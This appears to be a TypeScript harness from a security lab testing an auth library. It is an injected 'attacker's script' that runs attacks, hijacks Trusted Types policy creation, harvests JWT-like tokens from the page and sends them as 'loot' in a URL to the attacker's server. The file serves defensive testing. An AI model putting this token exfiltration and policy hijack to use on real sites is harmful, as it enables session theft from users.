/**
 * The attacker's script. The lab injects it before the page's own scripts, which is the best position for an attacker. It
 * tries one attack, and brings what it found to the attacker's server.
 *
 * This script does not judge an attack. The attacker's server does, by using what it got.
 */
import { createAuthClient } from 'symbolon';
import { attacks, tools, type Attack, type Tools } from '../../attacks/index.js';
import { type Credentials, signIn } from './sign-in-as-person.ts';

/** The orders that the lab's server writes before the script. */
interface Orders {
  readonly mode: 'attack' | 'guided' | 'sign-in';
  readonly victim: string;
  readonly attack?: string;
  readonly credentials: Credentials;
  /** The URL at the attacker's server to which the page is navigated at the end. */
  readonly home: string;
  /** An image of the page's own server. Its request tells the lab which step of the guided attack is reached. */
  readonly seen?: string;
}

/** The most milliseconds for an attack. One that takes longer counts as unfinished. */
const TIMEOUT = 30_000;
/** How many milliseconds a window of the guided attack shows the page before it leaves. */
const LINGER = 2500;
/** The most characters of tokens to put into a URL. */
const MAX_LOOT = 20_000;
const TOKEN = /eyJ[\w-]+\.[\w-]+\.[\w-]+/g;

const { JSON, setTimeout, encodeURIComponent } = window;
const { stringify } = JSON;
const pause = (milliseconds: number) => new Promise<void>((resolve) => setTimeout(resolve, milliseconds));

const own = self as { orders?: Orders };
const orders = own.orders;
delete own.orders;
const page = document.documentElement.dataset;
// Runs once, and only as a script element: attacks load every script again, and pages show every comment again.
if (orders && document.currentScript && !page['injected']) {
  page['injected'] = 'yes';
  start(orders);
}

async function start(orders: Orders): Promise<void> {
  const kit = tools(orders);
  const plan = orders.mode === 'sign-in' ? [] : attacksOf(orders);
  // The guided attack begins signed out.
  if (orders.mode === 'sign-in' && orders.seen) localStorage.removeItem('session');
  if (plan.some(({ lent }) => lent)) keepPolicies();
  for (const attack of plan) attack.plant?.(kit);
  const late = pause(TIMEOUT).then(() => ({ said: 'the attack has not ended', finished: false }));
  const { said, finished } = await Promise.race([attempt(orders, plan, kit), late]);
  if (orders.mode === 'sign-in' && orders.seen) return show(orders.seen);
  const seen = await kit.deliver();
  if (orders.mode === 'guided') await pause(LINGER);
  const query = `&finished=${finished}&said=${encodeURIComponent(said)}&loot=${encodeURIComponent(stringify(tokensIn(seen)))}`;
  location.replace(orders.home + query);
}

/** Returns the attacks to try. The guided attack tries those that can take a token from a weak application. */
function attacksOf({ mode, attack }: Orders): Attack[] {
  const wanted = mode === 'guided' ? ['C-001', 'C-011', 'C-014', 'C-018'] : [attack];
  return wanted.flatMap((id) => attacks.filter((attack) => attack.id === id));
}

async function attempt(orders: Orders, plan: Attack[], kit: Tools): Promise<{ said: string; finished: boolean }> {
  try {
    if (orders.mode === 'guided' && orders.seen) show(orders.seen);
    if (document.readyState === 'loading') await new Promise((resolve) => document.addEventListener('DOMContentLoaded', resolve));
    if (!plan.some(({ unready }) => unready)) await signIn(orders.credentials, orders.mode !== 'sign-in' ? 0 : 60);
    if (plan.some(({ lent }) => lent)) kit.request = await borrowFetch(orders.victim);
    let said: unknown = 'signed in';
    for (const { run } of plan) said = await run(kit);
    return { said: inWords(said), finished: true };
  } catch (error) {
    // Attacks catch the refusals that they expect. An attack that throws proves nothing.
    return { said: `the attack failed: ${error}`, finished: false };
  }
}

/** Returns a function that sends requests in the person's session: the page's own, or that of a new client. */
async function borrowFetch(victim: string): Promise<NonNullable<Tools['request']>> {
  const { bank } = self as { bank?: { send: NonNullable<Tools['request']> } };
  if (bank) return bank.send;
  const auth = createAuthClient();
  await auth.ready;
  if (victim.startsWith('symbolon')) return auth.fetch as NonNullable<Tools['request']>;
  throw new Error('the page has no function that sends requests in the session');
}

/** Keeps every Trusted Types policy for a second use. A page can create a policy once; the first script can keep it. */
function keepPolicies(): void {
  const { trustedTypes } = self as { trustedTypes?: { createPolicy(name: string, rules: object): object } };
  if (!trustedTypes) return;
  const create = trustedTypes.createPolicy.bind(trustedTypes);
  const kept = new Map<string, object>();
  trustedTypes.createPolicy = (name, rules) => {
    const policy = kept.get(name) ?? create(name, rules);
    kept.set(name, policy);
    return policy;
  };
}

/** Requests an image. */
function show(image: string): void {
  new Image().src = image;
}

/** Returns everything that looks like a token, by the place where it was found. */
function tokensIn(seen: Record<string, string[]>): Record<string, string[]> {
  const found: Record<string, string[]> = {};
  let size = 0;
  for (const [place, texts] of Object.entries(seen)) {
    const tokens = [...new Set(texts.flatMap((text) => text.match(TOKEN) ?? []))].slice(0, 2);
    size += place.length + tokens.join().length;
    if (tokens.length > 0 && size < MAX_LOOT) found[place] = tokens;
  }
  return found;
}

/** Shortens what an attack says of itself. */
function inWords(said: unknown): string {
  if (said === null || typeof said !== 'object') return String(said);
  if (Array.isArray(said)) return said.map(String).join(' ');
  const entries = Object.entries(said);
  if (entries.length < 4) return entries.filter(([, value]) => typeof value !== 'object').map((entry) => entry.join(': ')).join(', ');
  const worked = entries.filter(([, outcome]) => ['done', 'loaded', 'read', 200].includes(outcome as string));
  return `${worked.length} of ${entries.length} tries were possible, none gave a token`;
}
